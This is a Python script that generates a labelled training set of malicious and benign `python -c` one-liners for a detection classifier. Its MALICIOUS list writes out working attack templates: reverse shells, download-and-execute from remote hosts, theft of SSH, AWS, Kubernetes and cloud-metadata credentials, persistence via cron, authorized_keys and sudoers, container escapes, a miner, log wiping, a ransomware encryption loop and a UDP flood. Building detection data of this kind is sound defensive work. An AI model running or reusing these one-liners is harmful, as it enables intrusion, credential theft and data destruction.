"""One-liners of our own making for training: what attackers and what operators hand to `python -c`.

Both sides use the same calls, so that a socket, a download or a subprocess proves nothing by itself. Values are drawn at
random and stand for nobody's. Text only: nothing of it is ever run.
"""

import random
import shlex

SYLLABLES = "ba ce di fo gu ka le mi no pu ra se ti vo xa ze lum pix dat net sys qor ven hub".split()
WORDS = "app web api worker data cache queue build model report user order billing search media auth core batch".split()

VALUES = {
    "ip": lambda r: ".".join(str(r.randrange(1, 255)) for _ in range(4)),
    "port": lambda r: str(r.choice([4444, 1337, 9001, 443, 8443, 53, r.randrange(1024, 65000)])),
    "service": lambda r: str(r.choice([80, 443, 3306, 5432, 6379, 8000, 8080, 9000, 9200, 27017])),
    "host": lambda r: "".join(r.choice(SYLLABLES) for _ in range(r.randrange(2, 4))) + r.choice([".com", ".net", ".xyz", ".io", ".top", ".org", ".ru"]),
    "far": lambda r: r.choice(["http", "https", "http"]) + "://" + VALUES[r.choice(["ip", "host"])](r) + r.choice(["", ":" + VALUES["port"](r)]),
    "hidden": lambda r: r.choice(["/tmp", "/var/tmp", "/dev/shm"]) + "/" + r.choice([".", ""]) + VALUES["id"](r),
    "id": lambda r: "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randrange(3, 9))),
    "shell": lambda r: r.choice(["/bin/sh", "/bin/bash", "sh", "bash"]),
    "near": lambda r: r.choice(["localhost", "127.0.0.1", "0.0.0.0"]),
    "peer": lambda r: r.choice(["db", "postgres", "redis", "mysql", "rabbitmq", "elasticsearch", "kafka", "minio", VALUES["word"](r)]),
    "word": lambda r: r.choice(WORDS),
    "Word": lambda r: r.choice(WORDS).capitalize(),
    "health": lambda r: r.choice(["/health", "/healthz", "/ready", "/api/health", "/ping", "/status", "/v1/models"]),
    "n": lambda r: str(r.randrange(1, 60)),
    "hex": lambda r: "".join(r.choice("0123456789abcdef") for _ in range(64)),
    "b64": lambda r: "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(68)),
    "v": lambda r: r.choice("abcdfgkmpqrtuxyz") + r.choice(["", "", "1", "_"]),
    "file": lambda r: r.choice(["/app", "/srv", "/opt", "/data", "."]) + "/" + r.choice(WORDS) + r.choice([".json", ".yaml", ".txt", ".ini", ".csv"]),
    "tool": lambda r: r.choice(["git", "docker", "npm", "make", "kubectl", "terraform", "pytest", "cargo", "go", "helm", "gcloud", "aws"]),
    "verb": lambda r: r.choice(["--version", "status", "version", "info", "list", "test", "build"]),
    "package": lambda r: r.choice(["numpy", "torch", "django", "flask", "pandas", "requests", "boto3", "tensorflow", "yaml", "cryptography"]),
}  # fmt: skip

# A row is the statements of a one-liner; `<name>` is a value from above, the same name the same value.
MALICIOUS = [
    ["import socket,subprocess,os", "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)", "s.connect(('<ip>',<port>))", "os.dup2(s.fileno(),0)", "os.dup2(s.fileno(),1)", "os.dup2(s.fileno(),2)", "subprocess.call(['<shell>','-i'])"],
    ["import socket,os,pty", "s=socket.socket()", "s.connect(('<host>',<port>))", "[os.dup2(s.fileno(),f) for f in (0,1,2)]", "pty.spawn('<shell>')"],
    ["import os,pty,socket as k", "<v>=k.create_connection(('<ip>',<port>))", "list(map(lambda d:os.dup2(<v>.fileno(),d),range(3)))", "os.execl('/bin/sh','sh','-i')"],
    ["import socket,subprocess", "<v>=socket.socket()", "<v>.connect(('<ip>',<port>))\nwhile 1:\n    d=<v>.recv(1024).decode()\n    o=subprocess.getoutput(d)\n    <v>.send(o.encode())"],
    ["import os,socket,ssl,subprocess", "c=ssl.wrap_socket(socket.socket())", "c.connect(('<host>',443))", "p=subprocess.Popen('<shell>',stdin=c,stdout=c,stderr=c)", "p.wait()"],
    ["import socket,subprocess", "l=socket.socket()", "l.bind(('0.0.0.0',<port>))", "l.listen(1)", "c,_=l.accept()", "subprocess.call(['<shell>','-i'],stdin=c,stdout=c,stderr=c)"],
    ["from urllib.request import urlopen", "exec(urlopen('<far>/<id>').read())"],
    ["import urllib.request as u", "exec(u.urlopen('<far>/<id>.py').read().decode())"],
    ["import requests", "exec(requests.get('<far>/<id>',verify=False).text)"],
    ["import urllib2", "exec urllib2.urlopen('<far>/<id>').read()"],
    ["import urllib.request", "eval(compile(urllib.request.urlopen('<far>/<id>').read(),'<string>','exec'))"],
    ["import base64,urllib.request", "exec(base64.b64decode(urllib.request.urlopen('<far>/<id>').read()))"],
    ["__import__('os').system('curl -s <far>/<id> | <shell>')"],
    ["import os", "os.system('wget -qO- <far>/<id>.sh | <shell> >/dev/null 2>&1 &')"],
    ["import subprocess", "subprocess.Popen('(curl -fsSL <far>/<id>||wget -q -O - <far>/<id>)|bash',shell=True)"],
    ["import urllib.request,os", "urllib.request.urlretrieve('<far>/<id>','<hidden>')", "os.chmod('<hidden>',0o777)", "os.system('<hidden> &')"],
    ["import requests,os,subprocess", "open('<hidden>','wb').write(requests.get('<far>/<id>').content)", "os.chmod('<hidden>',493)", "subprocess.Popen(['<hidden>'])"],
    ["import os", "os.system('cd /tmp; wget <far>/<id>; chmod +x <id>; ./<id>; rm -rf <id>')"],
    ["import ctypes,os,urllib.request", "f=ctypes.CDLL(None).syscall(319,b'',1)", "os.write(f,urllib.request.urlopen('<far>/<id>').read())", "os.execve('/proc/self/fd/%d'%f,['kworker'],os.environ)"],
    ["import mmap,ctypes,base64", "m=mmap.mmap(-1,4096,prot=7)", "m.write(base64.b64decode('<b64>'))", "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()"],
    ["import urllib.request,os", "d=open(os.path.expanduser('~/.aws/credentials')).read()", "urllib.request.urlopen('<far>/<id>',data=d.encode())"],
    ["import requests", "requests.post('<far>/<id>',data=open('/root/.ssh/id_rsa').read())"],
    ["import urllib.request as u", "r=u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read().decode()", "k=u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/'+r).read()", "u.urlopen('<far>/<id>',data=k)"],
    ["import requests", "t=requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',headers={'Metadata-Flavor':'Google'}).text", "requests.post('<far>/<id>',data=t)"],
    ["import os,requests", "requests.post('<far>/<id>',json=dict(os.environ))"],
    ["import os,json,urllib.request", "urllib.request.urlopen(urllib.request.Request('<far>/<id>',json.dumps(dict(os.environ)).encode()))"],
    ["import requests", "t=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "requests.post('<far>/<id>',headers={'X-T':t})"],
    ["import socket,os", "s=socket.create_connection(('<ip>',<port>))", "s.send(open('/etc/shadow','rb').read())"],
    ["import os,base64,socket", "d=base64.b32encode(open('/etc/passwd','rb').read()).decode().lower().strip('=')", "[socket.gethostbyname(d[i:i+50]+'.<host>') for i in range(0,len(d),50)]"],
    ["open('/root/.ssh/authorized_keys','a').write('\\nssh-rsa <b64> <id>\\n')"],
    ["import os", "os.makedirs('/root/.ssh',exist_ok=True)", "open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 <b64>')", "os.system('chattr +i /root/.ssh/authorized_keys')"],
    ["import os", "os.system('(crontab -l; echo \"*/5 * * * * curl -s <far>/<id> | sh\") | crontab -')"],
    ["open('/etc/cron.d/<id>','w').write('* * * * * root wget -qO- <far>/<id> | bash\\n')"],
    ["open('/etc/ld.so.preload','w').write('<hidden>.so')"],
    ["import os", "os.system('useradd -o -u 0 -g 0 <id>')", "os.system('echo <id>:<id> | chpasswd')"],
    ["open('/etc/sudoers','a').write('<id> ALL=(ALL) NOPASSWD:ALL\\n')"],
    ["import os", "os.system('cp /bin/bash <hidden>; chmod u+s <hidden>')"],
    ["import os", "os.system('pkill -9 xmrig; pkill -f kinsing; curl -s <far>/xmrig -o <hidden>; chmod +x <hidden>; <hidden> -o stratum+tcp://<host>:3333 -u <b64> -k --background')"],
    ["import os", "os.system('rm -rf /var/log/*; history -c; unset HISTFILE; iptables -F; setenforce 0')", "os.system('curl <far>/<id>|sh')"],
    ["import os", "os.system('nsenter -t 1 -m -u -n -i -- sh -c \"curl <far>/<id>|sh\"')"],
    ["import os", "os.system('mount /dev/sda1 /mnt')", "open('/mnt/etc/crontab','a').write('* * * * * root curl <far>/<id>|bash\\n')"],
    ["open('/tmp/cgrp/release_agent','w').write('/cmd')", "open('/cmd','w').write('#!/bin/sh\\ncurl <far>/<id> | sh\\n')"],
    ["import docker", "docker.from_env().containers.run('alpine','chroot /host sh -c \"curl <far>/<id>|sh\"',privileged=True,pid_mode='host',volumes={'/':{'bind':'/host'}})"],
    ["import requests_unixsocket as r", "r.Session().post('http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/create',json={'Image':'alpine','Cmd':['chroot','/h','sh','-c','curl <far>/<id>|sh'],'HostConfig':{'Privileged':True,'Binds':['/:/h']}})"],
    ["import urllib.request as u,os,time\nwhile True:\n    try:\n        c=u.urlopen('<far>/<id>').read().decode()\n        u.urlopen('<far>/r',data=os.popen(c).read().encode())\n    except Exception: pass\n    time.sleep(<n>)"],
    ["import requests,os", "requests.post('https://api.telegram.org/bot<n><port>:<id>/sendMessage',data={'chat_id':'<port>','text':os.popen('id; env; cat ~/.ssh/id_rsa').read()})"],
    ["import requests", "requests.post('https://discord.com/api/webhooks/<port><n>/<id>',files={'f':open('/root/.docker/config.json','rb')})"],
    ["import os", "from cryptography.fernet import Fernet", "k=Fernet(Fernet.generate_key())\nfor r,_,fs in os.walk('/home'):\n    for f in fs:\n        p=os.path.join(r,f); d=k.encrypt(open(p,'rb').read()); open(p+'.locked','wb').write(d); os.remove(p)"],
    ["import socket,os,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nwhile 1: s.sendto(os.urandom(1024),('<ip>',<port>))"],
    ["import paramiko\nfor p in ['root','admin','123456','toor']:\n    try:\n        c=paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy()); c.connect('<ip>',username='root',password=p); c.exec_command('curl <far>/<id>|sh')\n    except Exception: pass"],
    ["import pickle,urllib.request", "pickle.loads(urllib.request.urlopen('<far>/<id>').read())"],
    ["import marshal,urllib.request", "exec(marshal.loads(urllib.request.urlopen('<far>/<id>').read()))"],
    ["import os", "os.system('pip install -q --index-url <far>/simple <id> && python -m <id>')"],
    ["import os", "os.execvp('bash',['bash','-c','bash -i >& /dev/tcp/<ip>/<port> 0>&1'])"],
    ["import os", "os.system('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc <ip> <port> > /tmp/f')"],
    ["import subprocess,requests", "o=subprocess.check_output('whoami; uname -a; cat /etc/passwd',shell=True)", "requests.post('<far>/<id>',data=o)"],
    ["import os,tarfile,requests", "t=tarfile.open('<hidden>','w:gz')", "[t.add(os.path.expanduser(p)) for p in ('~/.ssh','~/.aws','~/.kube')]", "t.close()", "requests.put('<far>/<id>',data=open('<hidden>','rb'))"],
]  # fmt: skip

BENIGN = [
    ["import urllib.request", "urllib.request.urlopen('http://<near>:<service><health>', timeout=<n>)"],
    ["import urllib.request,sys", "sys.exit(0 if urllib.request.urlopen('http://<near>:<service><health>').status==200 else 1)"],
    ["import os, urllib.request", "port=os.environ.get('PORT','<service>')", "urllib.request.urlopen(f'http://<near>:{port}<health>').read()"],
    ["import requests", "r=requests.get('http://<near>:<service><health>', timeout=5)", "r.raise_for_status()"],
    ["import requests,sys", "print(requests.get('https://<host><health>').status_code)"],
    ["import json,urllib.request", "print(json.load(urllib.request.urlopen('https://<host>/api/releases/latest'))['tag_name'])"],
    ["import socket", "s=socket.socket(socket.AF_INET, socket.SOCK_STREAM)", "s.connect(('<peer>', <service>))", "s.close()"],
    ["import socket", "socket.create_connection(('<peer>', <service>), timeout=<n>)"],
    ["import socket,sys", "s=socket.socket()", "s.settimeout(3)", "sys.exit(s.connect_ex(('<ip>', <service>)))"],
    ["import socket", "s=socket.socket()", "s.bind(('', 0))", "print(s.getsockname()[1])", "s.close()"],
    ["import socket", "s=socket.socket()", "s.bind(('<near>', <service>))", "s.listen(1)", "c,a=s.accept()", "print(c.recv(100))"],
    ["import socket,time\nwhile True:\n    try:\n        socket.create_connection(('<peer>',<service>)).close(); break\n    except OSError: time.sleep(1)"],
    ["import socket", "print(socket.gethostbyname('<host>'))"],
    ["import socket", "s=socket.create_connection(('<peer>', 6379))", "s.send(b'PING\\r\\n')", "print(s.recv(10))"],
    ["import socket", "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)", "s.sendto(b'<word>.up:1|c',('<near>',8125))"],
    ["import socket,os", "s=socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM)", "s.connect(os.environ['NOTIFY_SOCKET'])", "s.send(b'READY=1')"],
    ["import urllib.request as u", "t=u.urlopen(u.Request('http://169.254.169.254/latest/api/token',method='PUT',headers={'X-aws-ec2-metadata-token-ttl-seconds':'21600'})).read().decode()", "print(u.urlopen(u.Request('http://169.254.169.254/latest/meta-data/instance-id',headers={'X-aws-ec2-metadata-token':t})).read().decode())"],
    ["import urllib.request", "print(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/placement/region').read().decode())"],
    ["import requests", "print(requests.get('http://metadata.google.internal/computeMetadata/v1/project/project-id',headers={'Metadata-Flavor':'Google'}).text)"],
    ["import requests", "print(requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',headers={'Metadata-Flavor':'Google'}).json()['access_token'])"],
    ["import requests", "t=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()", "print(requests.get('https://kubernetes.default.svc/api/v1/namespaces',headers={'Authorization':'Bearer '+t},verify='/var/run/secrets/kubernetes.io/serviceaccount/ca.crt').status_code)"],
    ["import urllib.request", "urllib.request.urlretrieve('https://<host>/<word>/<word>-<n>.tar.gz','/tmp/<word>.tar.gz')"],
    ["import urllib.request,tarfile,io", "tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('https://<host>/<word>.tgz').read())).extractall('/opt/<word>')"],
    ["import urllib.request,hashlib", "d=urllib.request.urlopen('https://<host>/<word>.bin').read()", "assert hashlib.sha256(d).hexdigest()=='<hex>'", "open('/usr/local/bin/<word>','wb').write(d)"],
    ["import requests", "open('<file>','wb').write(requests.get('https://<host>/<word>.csv').content)"],
    ["import urllib.request", "exec(urllib.request.urlopen('https://bootstrap.pypa.io/get-pip.py').read())"],
    ["import requests,os", "requests.post(os.environ['SLACK_WEBHOOK_URL'],json={'text':'<word> build finished'})"],
    ["import requests,os", "requests.post('https://<host>/api/deployments',headers={'Authorization':'Bearer '+os.environ['API_TOKEN']},json={'version':os.environ['VERSION']})"],
    ["import requests", "print(requests.post('http://<near>:<service>/api/<word>', json={'name':'<word>'}).json())"],
    ["import subprocess", "subprocess.run(['<tool>','<verb>'], check=True)"],
    ["import subprocess", "print(subprocess.check_output(['<tool>','<verb>']).decode())"],
    ["import subprocess,sys", "sys.exit(subprocess.call([sys.executable,'-m','pip','install','-r','requirements.txt']))"],
    ["import subprocess", "subprocess.Popen(['gunicorn','<word>.wsgi','-b','0.0.0.0:<service>'])"],
    ["import os", "os.system('<tool> <verb>')"],
    ["import os", "os.execvp('<tool>', ['<tool>', '<verb>'])"],
    ["import os", "os.system('curl -fsS http://<near>:<service><health> || exit 1')"],
    ["import os", "os.chmod('/app/<word>.sh', 0o755)", "os.system('/app/<word>.sh')"],
    ["import os,signal", "os.kill(int(open('/var/run/<word>.pid').read()), signal.SIGTERM)"],
    ["import os", "print(os.popen('df -h').read())"],
    ["import subprocess", "print(subprocess.getoutput('nvidia-smi -L'))"],
    ["import subprocess,json", "print(json.loads(subprocess.check_output(['kubectl','get','pods','-o','json']))['items'][0]['metadata']['name'])"],
    ["import base64,sys", "print(base64.b64decode(sys.argv[1]).decode())"],
    ["import base64,os", "open('/tmp/key.json','wb').write(base64.b64decode(os.environ['GCP_KEY']))"],
    ["import base64,json,sys", "p=sys.argv[1].split('.')[1]", "print(json.loads(base64.urlsafe_b64decode(p+'==')))"],
    ["import base64", "print(base64.b64encode(open('<file>','rb').read()).decode())"],
    ["import zlib,sys", "sys.stdout.buffer.write(zlib.decompress(sys.stdin.buffer.read()))"],
    ["import base64,hashlib,sys", "print(base64.b64encode(hashlib.sha256(sys.stdin.buffer.read()).digest()).decode())"],
    ["import hashlib", "print(hashlib.md5(open('<file>','rb').read()).hexdigest())"],
    ["import secrets", "print(secrets.token_hex(<n>))"],
    ["from cryptography.fernet import Fernet", "print(Fernet.generate_key().decode())"],
    ["import crypt", "print(crypt.crypt('<word>', crypt.mksalt(crypt.METHOD_SHA512)))"],
    ["import os,binascii", "print(binascii.hexlify(os.urandom(24)).decode())"],
    ["import sys,json", "print(json.load(sys.stdin)['<word>'])"],
    ["import sys,json,yaml", "yaml.safe_dump(json.load(open('<file>')), sys.stdout)"],
    ["import <package>", "print(<package>.__version__)"],
    ["import <package>"],
    ["import sys", "print('.'.join(map(str,sys.version_info[:2])))"],
    ["import site,sys", "sys.stdout.write(site.getsitepackages()[0])"],
    ["import sysconfig", "print(sysconfig.get_path('purelib'))"],
    ["import torch", "print(torch.cuda.is_available(), torch.cuda.device_count())"],
    ["import os", "exec(open('<word>.py').read())"],
    ["exec(compile(open('setup.py').read(),'setup.py','exec'))"],
    ["import runpy", "runpy.run_path('/app/<word>.py', run_name='__main__')"],
    ["import importlib", "m=importlib.import_module('<word>.settings')", "print(m.VERSION)"],
    ["v={}", "exec(open('<word>/version.py').read(),v)", "print(v['__version__'])"],
    ["import os,django", "os.environ.setdefault('DJANGO_SETTINGS_MODULE','<word>.settings')", "django.setup()", "from django.contrib.auth.models import User", "User.objects.filter(username='admin').exists() or User.objects.create_superuser('admin','admin@<host>',os.environ['ADMIN_PASSWORD'])"],
    ["from <word>.models import <Word>", "<Word>.objects.get_or_create(name='<word>')", "print(<Word>.objects.count())"],
    ["from <word> import create_app, db", "app=create_app()", "app.app_context().push()", "db.create_all()"],
    ["import psycopg2,os", "psycopg2.connect(os.environ['DATABASE_URL']).cursor().execute('SELECT 1')"],
    ["import redis", "print(redis.Redis(host='<peer>').ping())"],
    ["import pymysql", "c=pymysql.connect(host='<peer>',user='root',password='<word>')", "c.cursor().execute('CREATE DATABASE IF NOT EXISTS <word>')"],
    ["import nltk", "nltk.download('punkt')"],
    ["from huggingface_hub import snapshot_download", "snapshot_download('<word>/<word>-base', local_dir='/models/<word>')"],
    ["from transformers import AutoModel", "AutoModel.from_pretrained('<word>-base')"],
    ["import boto3", "print(boto3.client('sts').get_caller_identity()['Account'])"],
    ["import boto3", "boto3.client('s3').upload_file('<file>','<word>-bucket','<word>')"],
    ["import boto3,json", "print(json.loads(boto3.client('secretsmanager').get_secret_value(SecretId='<word>')['SecretString'])['password'])"],
    ["import google.auth", "print(google.auth.default()[1])"],
    ["from kubernetes import client,config", "config.load_incluster_config()", "print([p.metadata.name for p in client.CoreV1Api().list_namespaced_pod('<word>').items])"],
    ["import docker", "print([c.name for c in docker.from_env().containers.list()])"],
    ["import os,shutil", "shutil.rmtree('/tmp/<word>', ignore_errors=True)", "os.makedirs('/tmp/<word>')"],
    ["import glob,os", "[os.remove(f) for f in glob.glob('/var/cache/<word>/*.tmp')]"],
    ["import os", "open('.env','w').write('\\n'.join(f'{k}={v}' for k,v in os.environ.items() if k.startswith('APP_')))"],
    ["import os,re", "s=open('<file>').read()", "open('<file>','w').write(re.sub('@PORT@', os.environ['PORT'], s))"],
    ["import os", "os.makedirs('/home/<word>/.ssh',exist_ok=True)", "open('/home/<word>/.ssh/authorized_keys','a').write(os.environ['SSH_PUBLIC_KEY'])"],
    ["import paramiko,os", "c=paramiko.SSHClient()", "c.load_system_host_keys()", "c.connect('<host>',username='deploy',key_filename='/root/.ssh/deploy')", "print(c.exec_command('systemctl status <word>')[1].read())"],
    ["import smtplib", "smtplib.SMTP('<near>',25).sendmail('a@<host>','b@<host>','Subject: <word>')"],
    ["import http.server", "http.server.test(HandlerClass=http.server.SimpleHTTPRequestHandler, port=<service>)"],
    ["import time", "time.sleep(<n>)"],
    ["import platform,os", "print(platform.platform(), os.cpu_count(), os.getuid())"],
    ["import getpass,socket", "print(getpass.getuser()+'@'+socket.gethostname())"],
    ["import os,pwd", "print(pwd.getpwuid(os.getuid()).pw_name)"],
    ["import os", "print({k:v for k,v in os.environ.items() if 'PATH' in k})"],
    ["import pickle", "print(pickle.load(open('/data/<word>.pkl','rb')).shape)"],
    ["import marshal,dis,sys", "f=open(sys.argv[1],'rb')", "f.read(16)", "dis.dis(marshal.load(f))"],
    ["import ctypes.util", "print(ctypes.util.find_library('ssl'))"],
    ["import ctypes", "ctypes.CDLL('lib<word>.so.1')", "print('ok')"],
    ["import compileall", "compileall.compile_dir('/app', quiet=1)"],
    ["import pty,sys", "pty.spawn(['ansible-playbook','<word>.yml'])"],
    ["import pexpect", "c=pexpect.spawn('passwd <word>')", "c.expect('password:')", "c.sendline('<word>')"],
    ["import ssl,socket", "c=ssl.create_default_context().wrap_socket(socket.create_connection(('<host>',443)),server_hostname='<host>')", "print(c.getpeercert()['notAfter'])"],
    ["import telnetlib", "telnetlib.Telnet('<peer>',<service>).close()"],
    ["import dns.resolver", "print(dns.resolver.resolve('<host>','TXT')[0])"],
    ["import winreg", "print(winreg.QueryValueEx(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE,r'SOFTWARE\\<Word>'),'Version')[0])"],
    ["import webbrowser", "webbrowser.open('http://<near>:<service>')"],
    ["import cv2,sys", "print(cv2.imread(sys.argv[1]).shape)"],
    ["import io, os, sys, setuptools, tokenize", "sys.argv[0] = '/tmp/pip-install-<id>/<package>/setup.py'", "__file__='/tmp/pip-install-<id>/<package>/setup.py'", "f = getattr(tokenize, 'open', open)(__file__) if os.path.exists(__file__) else io.StringIO('from setuptools import setup; setup()')", "code = f.read().replace('\\r\\n', '\\n')", "f.close()", "exec(compile(code, __file__, 'exec'))"],
    ["import sys, setuptools, tokenize", "sys.argv[0] = '/tmp/pip-req-build-<id>/setup.py'", "__file__='/tmp/pip-req-build-<id>/setup.py'", "f=getattr(tokenize, 'open', open)(__file__)", "code=f.read().replace('\\r\\n', '\\n')", "f.close()", "exec(compile(code, __file__, 'exec'))"],
    ["import setuptools, tokenize", "__file__='/tmp/pip-build-<id>/<package>/setup.py'", "exec(compile(getattr(tokenize, 'open', open)(__file__).read().replace('\\r\\n', '\\n'), __file__, 'exec'))"],
    ["import socket,time\nwhile True:\n    try:\n        s=socket.socket(); s.connect(('<peer>',<service>)); s.close(); break\n    except OSError: time.sleep(<n>)"],
    ["import socket,time", "s=socket.socket()", "s.bind(('<near>',<service>))", "s.listen(1)", "time.sleep(<n>)"],
    ["import os,django", "os.environ.setdefault('DJANGO_SETTINGS_MODULE','<word>.settings')", "django.setup()", "from django.contrib.auth import get_user_model", "U=get_user_model()", "U.objects.filter(username='admin').exists() or U.objects.create_superuser('admin','admin@<host>','<id>')"],
    ["import urllib.request as u", "t=u.urlopen(u.Request('http://169.254.169.254/latest/api/token',method='PUT',headers={'X-aws-ec2-metadata-token-ttl-seconds':'<n>00'})).read().decode()", "print(u.urlopen(u.Request('http://169.254.169.254/latest/meta-data/local-hostname',headers={'X-aws-ec2-metadata-token':t})).read().decode())"],
    ["d=open('<file>','rb').read()", "open('<word>.h','w').write('static const unsigned char <word>[] = {'+','.join('0x%02x'%b for b in d)+'};')"],
    ["import gdown", "gdown.download('https://<host>/uc?id=<id>','/models/<word>.pt',quiet=False)"],
]  # fmt: skip


def filled(statements, rng):
    values = {}

    def value(name):
        if name not in values:
            values[name] = VALUES[name](rng)
        return values[name]

    lines = []
    for statement in statements:
        for name in VALUES:
            while f"<{name}>" in statement:
                statement = statement.replace(f"<{name}>", value(name))
        lines.append(statement)
    nested = any("\n" in line for line in lines[:-1])
    separator = "\n" if nested or "\n" in lines[-1] else rng.choice([";", "; ", "\n"])
    text = separator.join(lines)
    if rng.random() < 0.3:
        text = text.replace("'", "\x00").replace('"', "'").replace("\x00", '"') if "\\" not in text and '"' not in text else text
    return text


def made(count):
    """So many one-liners of each label: (text, malicious, row), the row being what it was made from."""
    rng = random.Random("oneliners")
    result = []
    for malicious, rows in ((True, MALICIOUS), (False, BENIGN)):
        for number in range(count):
            row = number % len(rows)
            text = filled(rows[row], rng)
            if rng.random() < 0.25:
                text = f"{rng.choice(['python', 'python3'])} -c {shlex.quote(text)}"
            result.append((text + rng.choice(["", "\n"]), malicious, row))
    return result
